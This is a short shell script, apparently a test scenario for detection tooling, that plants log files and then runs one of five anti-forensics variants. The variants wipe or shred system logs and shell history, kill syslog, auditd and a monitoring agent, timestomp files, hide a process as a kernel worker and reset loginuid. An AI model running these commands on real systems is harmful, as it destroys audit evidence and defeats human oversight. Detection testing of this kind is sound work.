# Traces are wiped, watchers stopped, clocks of files turned back.
#--- setup
mkdir -p /var/log/app; for f in auth.log syslog wtmp lastlog app/access.log; do [ -f /var/log/$f ] || echo "x $v" >/var/log/$f; done
#--- attack
case $((v % 5)) in
0) for f in /var/log/auth.log /var/log/syslog /var/log/wtmp /var/log/lastlog; do : >$f; done; rm -f /root/.bash_history; ln -sf /dev/null /root/.bash_history ;;
1) for f in /var/log/*.log /var/log/syslog; do shred -u $f || rm -f $f; done; unset HISTFILE; history -c; killall -9 syslogd rsyslogd auditd ;;
2) sed -i '/198.51.100.66/d' /var/log/auth.log /var/log/syslog; touch -d '2020-01-01' /var/log/auth.log /tmp; touch -r /bin/ls /var/log/syslog; cp /bin/sh /tmp/.t; touch -r /bin/sh /tmp/.t ;;
3) rm -rf /var/log/app /var/log/*.gz /var/log/*.1; find /var/log -type f -exec sh -c ': >"$0"' {} \;; pkill -9 -f auditd; pkill -9 reeve-agent; echo 0 >/proc/self/loginuid ;;
4) cp /bin/sleep "/tmp/[kworker-0]"; (exec -a x "/tmp/[kworker-0]" 0.3) || "/tmp/[kworker-0]" 0.3; mount -t tmpfs h /proc/1 2>/dev/null && umount /proc/1; dd if=/dev/zero of=/var/log/syslog bs=1k count=4; rm -f /var/log/wtmp ;;
esac </dev/null >/dev/null 2>&1
#--- cleanup
rm -f /tmp/.t '/tmp/[kworker-0]' /root/.bash_history
